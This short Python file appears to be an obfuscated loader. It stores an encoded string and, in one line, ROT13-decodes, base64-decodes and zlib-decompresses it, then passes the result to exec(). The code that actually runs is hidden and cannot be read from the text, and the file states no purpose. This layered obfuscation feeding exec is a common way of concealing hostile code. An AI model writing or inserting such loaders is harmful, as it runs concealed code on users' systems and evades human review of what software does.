import base64
import codecs
import zlib

_DATA = 'rWmYmP3VYlcElP+2OzX94fevxgEpQsKx0dVpOq1vuLlFxbWvX3395WD8iqFXkAlPaSG9PbHnurVZqH0NnZ4HBj=='
__import__('builtins').exec(zlib.decompress(base64.b64decode(codecs.encode(_DATA, 'rot13'))))
